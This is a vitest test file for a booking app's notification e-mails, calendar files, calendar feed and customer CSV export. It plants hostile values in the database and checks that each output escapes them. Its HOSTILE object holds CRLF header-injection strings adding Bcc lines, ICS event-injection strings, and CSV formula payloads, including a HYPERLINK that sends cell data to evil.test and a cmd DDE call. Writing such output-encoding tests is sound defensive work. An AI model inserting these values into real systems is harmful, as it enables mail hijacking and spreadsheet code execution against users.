import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { eq } from 'drizzle-orm'
import ICAL from 'ical.js'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type ReceivedMail, type SmtpInbox, startSmtpInbox } from '../../scripts/lib/smtp-inbox.ts'
import {
  appointments,
  customers,
  type notificationOutbox,
  services,
  teamMembers,
  tenants,
} from '../../server/db/schema.ts'
import { uniqueEmail } from '../support/api/emulator-users.ts'
import { decodeEncodedWords, headerFields, mimeParts } from '../support/api/mime.ts'
import { outboxFor } from '../support/api/outbox.ts'
import { bookingBody, bookPublicly, slugOf } from '../support/api/public-booking.ts'
import {
  appointmentApi,
  createSchedulingBusiness,
  inDays,
  type SchedulingBusiness,
} from '../support/api/scheduling-business.ts'
import { call } from '../support/api/team-business.ts'
import { createTestApp, type TestApp } from '../support/api/test-app.ts'
import { asHeaderLine, asIcsParameter, asIcsText } from '../support/unit/hostile-text.ts'
import { readCsv } from '../support/unit/strict-csv.ts'

// Whatever a gap in request validation lets into the database, what we write out stays in its
// place: e-mails go to exactly one address with exactly the expected header fields, calendar
// files keep one event with its values, CSV keeps one cell per value and runs no formula. The
// hostile values are written straight into the database, where the API would refuse them.

const PUBLIC_URL = 'https://book.example.test'
const NO_REPLY = 'no-reply@book.example.test'

const HOSTILE = {
  business:
    'Harbor\r\nBcc: victim@evil.test\r\nX-Injected: yes; "Studio", =HYPERLINK("http://evil.test")\u0007',
  businessEmail: 'owner@harbor.test\r\nATTENDEE:mailto:victim@evil.test',
  businessAddress: '1 Main St;,\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected',
  member: 'Sam\r\nBcc: victim@evil.test;CN="x":mailto:evil@evil.test, ^n\\ \u001b',
  service: 'Cut\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:injected\r\nSUMMARY:Free, really; yes',
  customer: '=HYPERLINK("http://evil.test/?"&A1,"Click")\r\nBcc: victim@evil.test\u0085',
  customerPhone: '+1 555\r\n=cmd|"/c calc"!A1',
  customerNotes: '  -2+3;,"\r\nline two\ttab',
  customerTags: ['=tag', 'a,b', '@at'],
  appointmentNotes: 'Notes\r\nATTENDEE:mailto:victim@evil.test\r\nX-INJECTED:1',
}

/** The fields of a message with an invitation (multipart), each exactly once. */
const MAIL_FIELDS = ['content-type', 'date', 'from', 'message-id', 'mime-version', 'subject', 'to']

const EVENT_PROPERTIES = [
  'uid',
  'sequence',
  'dtstamp',
  'dtstart',
  'dtend',
  'summary',
  'description',
  'location',
  'status',
  'organizer',
]

type OutboxRow = typeof notificationOutbox.$inferSelect

let inbox: SmtpInbox
let testApp: TestApp
let salon: SchedulingBusiness
let api: ReturnType<typeof appointmentApi>
let hostileCustomerId: string
let hostileCustomerEmail: string
let nextDay = 1

beforeAll(async () => {
  inbox = await startSmtpInbox()
  testApp = await createTestApp({
    publicBooking: {
      secret: 'an output encoding test secret of enough length',
      publicUrl: PUBLIC_URL,
    },
    // The timer never fires during the tests: they run the jobs themselves.
    jobs: {
      intervalMs: 3_600_000,
      smtpUrl: inbox.smtpUrl,
      outboxDir: join(tmpdir(), 'unused-outbox'),
    },
  })
  salon = await createSchedulingBusiness(testApp, 'Hostile')
  api = appointmentApi(testApp, salon)
  const db = testApp.database.db
  await db
    .update(tenants)
    .set({
      name: HOSTILE.business,
      email: HOSTILE.businessEmail,
      address: HOSTILE.businessAddress,
    })
    .where(eq(tenants.id, salon.tenantId))
  await db.update(services).set({ name: HOSTILE.service }).where(eq(services.id, salon.haircutId))
  await db
    .update(teamMembers)
    .set({ name: HOSTILE.member })
    .where(eq(teamMembers.id, salon.staffMemberId))
  hostileCustomerEmail = uniqueEmail('ana')
  const [customer] = await db
    .insert(customers)
    .values({
      tenantId: salon.tenantId,
      name: HOSTILE.customer,
      email: hostileCustomerEmail,
      phone: HOSTILE.customerPhone,
      notes: HOSTILE.customerNotes,
      tags: HOSTILE.customerTags,
    })
    .returning({ id: customers.id })
  if (!customer) throw new Error('no customer')
  hostileCustomerId = customer.id
}, 120_000)

afterAll(async () => {
  await testApp?.close()
  await inbox?.stop()
})

const at = (time: string) => inDays(nextDay++, time, salon.timeZone)

async function outboxOf(appointmentId: string): Promise<OutboxRow[]> {
  return outboxFor(testApp, appointmentId)
}

/** Runs the jobs until nothing is due; the messages about the appointment that arrived. */
async function deliver(appointmentId: string): Promise<ReceivedMail[]> {
  const jobs = testApp.app.backgroundJobs
  if (!jobs) throw new Error('the jobs are not running')
  for (;;) {
    const { delivery } = await jobs.runOnce()
    if (delivery.sent + delivery.retrying + delivery.failed === 0) break
  }
  return inbox.messages.filter((mail) => mail.raw.includes(`${appointmentId}@slotwise`))
}

function parseCalendar(text: string) {
  const calendar = new ICAL.Component(ICAL.parse(text))
  const events = calendar.getAllSubcomponents('vevent')
  return { calendar, events }
}

/** The one received message to `address`, checked: one recipient, exactly the fields. */
function checkedMail(messages: ReceivedMail[], address: string) {
  const mail = messages.filter((message) => message.to.includes(address))
  expect(mail).toHaveLength(1)
  const [message] = mail as [ReceivedMail]
  expect(message.to).toEqual([address])
  expect(message.from).toBe(NO_REPLY)
  const fields = headerFields(message.raw)
  expect(fields.map((field) => field.name).sort()).toEqual(MAIL_FIELDS)
  const value = (name: string) => fields.find((field) => field.name === name)?.value ?? ''
  expect(value('to')).toBe(address)
  expect(value('from')).toBe(`Slotwise <${NO_REPLY}>`)
  const parts = mimeParts(message.raw)
  const partOf = (type: string) => {
    const found = parts.filter((part) => part.headers['content-type']?.startsWith(type))
    expect(found).toHaveLength(1)
    return found[0]?.body ?? ''
  }
  // The attachment is base64, so it keeps its CRLFs; the alternative part is the same text
  // (mimeParts reads its line breaks as LF, and the MIME framing owns the last one).
  const attachment = partOf('application/ics')
  const asLines = (text: string) => text.replace(/\r\n/g, '\n').replace(/\n+$/, '')
  expect(asLines(partOf('text/calendar'))).toBe(asLines(attachment))
  return { subject: decodeEncodedWords(value('subject')), calendar: attachment }
}

/** The calendar's one VEVENT, after checking its lines and that nothing was added. */
function onlyEvent(text: string, extra: string[]) {
  const lines = text.replace(/\r\n$/, '').split('\r\n')
  for (const line of lines) {
    expect(line).not.toMatch(/[\r\n]/)
    expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75)
  }
  const { calendar, events } = parseCalendar(text)
  expect(calendar.getAllSubcomponents().map((component) => component.name)).toEqual(['vevent'])
  const [vevent] = events as [ICAL.Component]
  expect(vevent.getAllProperties().map((property) => property.name)).toEqual([
    ...EVENT_PROPERTIES,
    ...extra,
  ])
  return vevent
}

describe('a booking’s e-mails', () => {
  it('go to exactly one address each, with exactly the expected fields, and one event with the exact values', async () => {
    const appointment = await api.booked(salon.owner, {
      team_member_id: salon.staffMemberId,
      customer_id: hostileCustomerId,
      starts_at: at('10:00'),
    })
    const rows = await outboxOf(appointment.id)
    const rowFor = (recipient: OutboxRow['recipient']) =>
      rows.find((row) => row.recipient === recipient) as OutboxRow
    const messages = await deliver(appointment.id)
    expect(messages).toHaveLength(2)
    expect(messages.flatMap((message) => message.to).join()).not.toContain('evil.test')

    const toCustomer = checkedMail(messages, hostileCustomerEmail)
    expect(rowFor('customer').subject).toContain(HOSTILE.service)
    expect(toCustomer.subject).toBe(asHeaderLine(rowFor('customer').subject))
    const customerEvent = onlyEvent(toCustomer.calendar, ['url', 'attendee'])
    const manageUrl = String(customerEvent.getFirstPropertyValue('url'))
    expect(manageUrl).toMatch(
      new RegExp(`^${PUBLIC_URL}/booking/event/${appointment.id}\\?business=[a-z0-9-]+&token=`),
    )
    expect(customerEvent.getFirstPropertyValue('uid')).toBe(`${appointment.id}@slotwise`)
    expect(customerEvent.getFirstPropertyValue('summary')).toBe(
      asIcsText(`${HOSTILE.service} at ${HOSTILE.business}`),
    )
    expect(customerEvent.getFirstPropertyValue('description')).toBe(
      asIcsText(`${HOSTILE.service} with ${HOSTILE.member} at ${HOSTILE.business}.`) +
        `\nReschedule or cancel: ${manageUrl}`,
    )
    expect(customerEvent.getFirstPropertyValue('location')).toBe(asIcsText(HOSTILE.businessAddress))
    const organizer = customerEvent.getFirstProperty('organizer')
    // The business's e-mail is no address: the invitation comes from the no-reply address.
    expect(organizer?.getFirstValue()).toBe(`mailto:${NO_REPLY}`)
    expect(organizer?.getParameter('cn')).toBe(asIcsParameter(HOSTILE.business))
    const attendee = customerEvent.getFirstProperty('attendee')
    expect(attendee?.getFirstValue()).toBe(`mailto:${hostileCustomerEmail}`)
    expect(attendee?.getParameter('cn')).toBe(asIcsParameter(HOSTILE.customer))
    expect(attendee?.getParameter('role')).toBe('REQ-PARTICIPANT')

    const toMember = checkedMail(messages, salon.staff.email)
    expect(rowFor('team_member').subject).toContain(HOSTILE.customer)
    expect(toMember.subject).toBe(asHeaderLine(rowFor('team_member').subject))
    const memberEvent = onlyEvent(toMember.calendar, ['attendee'])
    expect(memberEvent.getFirstPropertyValue('summary')).toBe(
      asIcsText(`${HOSTILE.service} — ${HOSTILE.customer}`),
    )
    expect(memberEvent.getFirstProperty('attendee')?.getParameter('cn')).toBe(
      asIcsParameter(HOSTILE.member),
    )
  })

  it('from a public booking carry the business’s, service’s and member’s names just as safely', async () => {
    const slug = await slugOf(testApp, salon.tenantId)
    const email = uniqueEmail('guest')
    const body = bookingBody(salon, at('11:00'), {
      customer: { name: 'Mia Public', email, phone: '+49 30 123456' },
    })
    const { appointment } = await bookPublicly(testApp, slug, body)
    const messages = await deliver(appointment.id)
    expect(messages).toHaveLength(2)
    const toGuest = checkedMail(messages, email)
    expect(toGuest.subject).toContain(asHeaderLine(HOSTILE.service))
    const event = onlyEvent(toGuest.calendar, ['url', 'attendee'])
    expect(event.getFirstPropertyValue('summary')).toBe(
      asIcsText(`${HOSTILE.service} at ${HOSTILE.business}`),
    )
    expect(event.getFirstProperty('attendee')?.getFirstValue()).toBe(`mailto:${email}`)
    checkedMail(messages, salon.staff.email)
  })
})

describe('a recipient that is not exactly one address', () => {
  it.each([
    ['a list', 'victim1@evil.test, victim2@evil.test'],
    ['a header after a line break', 'ok@evil.test\r\nBcc: victim3@evil.test'],
    ['a display name', 'Victim <victim4@evil.test>'],
  ])(
    'in a customer’s e-mail (%s) fails its message at once, and the member still gets theirs',
    async (_what, email) => {
      const [customer] = await testApp.database.db
        .insert(customers)
        .values({ tenantId: salon.tenantId, name: 'Listed', email })
        .returning({ id: customers.id })
      const appointment = await api.booked(salon.owner, {
        team_member_id: salon.staffMemberId,
        customer_id: customer?.id,
        starts_at: at('14:00'),
      })
      const messages = await deliver(appointment.id)

      expect(messages.map((message) => message.to)).toEqual([[salon.staff.email]])
      const rows = await outboxOf(appointment.id)
      const toCustomer = rows.find((row) => row.recipient === 'customer')
      expect(toCustomer).toMatchObject({ status: 'failed', attempts: 1, sentAt: null })
      expect(toCustomer?.lastError).toMatch(/is not exactly one e-mail address/)
      expect(rows.find((row) => row.recipient === 'team_member')?.status).toBe('sent')
    },
  )

  it('in a team member’s e-mail fails their message the same way', async () => {
    await testApp.database.db
      .update(teamMembers)
      .set({ email: `admin@harbor.test, victim5@evil.test` })
      .where(eq(teamMembers.id, salon.adminMemberId))
    const appointment = await api.booked(salon.owner, {
      team_member_id: salon.adminMemberId,
      customer_id: hostileCustomerId,
      starts_at: at('15:00'),
    })
    const messages = await deliver(appointment.id)

    expect(messages.map((message) => message.to)).toEqual([[hostileCustomerEmail]])
    const toMember = (await outboxOf(appointment.id)).find((row) => row.recipient === 'team_member')
    expect(toMember).toMatchObject({ status: 'failed', attempts: 1 })
    expect(inbox.messages.flatMap((message) => message.to).join()).not.toContain('evil.test')
  })
})

describe('the team member’s calendar feed', () => {
  it('serves one event per appointment with the exact values, and nothing more', async () => {
    const booked = await api.booked(salon.owner, {
      team_member_id: salon.staffMemberId,
      customer_id: hostileCustomerId,
      starts_at: at('16:00'),
    })
    await testApp.database.db
      .update(appointments)
      .set({ notes: HOSTILE.appointmentNotes })
      .where(eq(appointments.id, booked.id))
    const feed = await call(
      testApp,
      salon.owner,
      'GET',
      `/api/v1/team-members/${salon.staffMemberId}/calendar-feed`,
    )
    const url = new URL(feed.json<{ url: string }>().url)
    const response = await testApp.app.inject({
      method: 'GET',
      url: `${url.pathname}${url.search}`,
    })
    expect(response.statusCode).toBe(200)

    const text = response.body
    for (const line of text.replace(/\r\n$/, '').split('\r\n')) {
      expect(line).not.toMatch(/[\r\n]/)
      expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75)
    }
    const { calendar, events } = parseCalendar(text)
    expect(calendar.getAllProperties().map((property) => property.name)).toEqual([
      'prodid',
      'version',
      'calscale',
      'x-wr-calname',
    ])
    const memberAppointments = await testApp.database.db
      .select({ id: appointments.id })
      .from(appointments)
      .where(eq(appointments.teamMemberId, salon.staffMemberId))
    expect(events.map((vevent) => vevent.getFirstPropertyValue('uid')).sort()).toEqual(
      memberAppointments.map((row) => `${row.id}@slotwise`).sort(),
    )
    for (const vevent of events) {
      expect(vevent.getAllProperties().map((property) => property.name)).toEqual([
        ...EVENT_PROPERTIES,
        'attendee',
      ])
    }
    const event = events.find(
      (vevent) => vevent.getFirstPropertyValue('uid') === `${booked.id}@slotwise`,
    ) as ICAL.Component
    expect(event.getFirstPropertyValue('summary')).toBe(
      asIcsText(`${HOSTILE.service} — ${HOSTILE.customer}`),
    )
    expect(event.getFirstPropertyValue('description')).toBe(
      asIcsText(`${HOSTILE.service} for ${HOSTILE.customer}.\nNotes: ${HOSTILE.appointmentNotes}`),
    )
    expect(event.getFirstProperty('attendee')?.getParameter('cn')).toBe(
      asIcsParameter(HOSTILE.member),
    )
    expect(text).not.toMatch(/^(X-INJECTED|SUMMARY:Injected|UID:injected)/im)
  })
})

describe('the customers export', () => {
  it('keeps every value in its own cell and no cell runs as a formula', async () => {
    const response = await call(testApp, salon.owner, 'GET', '/api/v1/customers/export')
    expect(response.statusCode).toBe(200)
    const records = readCsv(response.rawPayload.subarray(3).toString('utf8'))
    const [header, ...rows] = records as [string[], ...string[][]]
    expect(header).toHaveLength(10)
    for (const row of rows) expect(row).toHaveLength(10)
    const cells = Object.fromEntries(
      header.map((name, index) => [
        name,
        rows.find((row) => row[0] === hostileCustomerId)?.[index],
      ]),
    )
    expect(cells).toMatchObject({
      name: `'${HOSTILE.customer}`,
      email: hostileCustomerEmail,
      phone: `'${HOSTILE.customerPhone}`,
      tags: `'${HOSTILE.customerTags.join(', ')}`,
      notes: `'${HOSTILE.customerNotes}`,
      marketing_consent: 'false',
    })
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^(\s*[=+\-@]|[\t\r\n])/)
    }
  })
})
